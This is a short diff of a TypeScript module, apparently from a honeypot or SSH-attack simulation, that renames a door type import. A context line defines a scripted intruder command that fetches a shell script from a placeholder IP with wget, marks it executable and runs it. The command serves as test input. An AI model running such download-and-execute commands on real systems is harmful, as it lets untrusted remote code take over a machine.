@@ -1,6 +1,6 @@
 import type { Chain, Step } from './chain.ts';
-import { enterBySsh, type SshDoor } from './play-ssh.ts';
-import { answerWithin } from './played.ts';
+import { enterBySsh } from './play-ssh.ts';
+import { answerWithin, type Door } from './played.ts';
 
 /** Grave, and looking for cloud keys: what the shipped policy answers with AWS credentials. Nothing can be fetched there. */
 const firstLines = ['cd /tmp; wget -q http://192.0.2.66/kits/again.sh; chmod +x again.sh; ./again.sh'];
@@ -9,7 +9,7 @@ const client = 'OpenSSH_9.6p1 Ubuntu-3ubuntu13.5';
 const lookAgainMs = 250;
 
 export interface SpyParts {
-  readonly door: SshDoor;
+  readonly door: Door;
   readonly login: { readonly username: string; readonly password: string };
   readonly chain: Chain;
   readonly now: () => number;
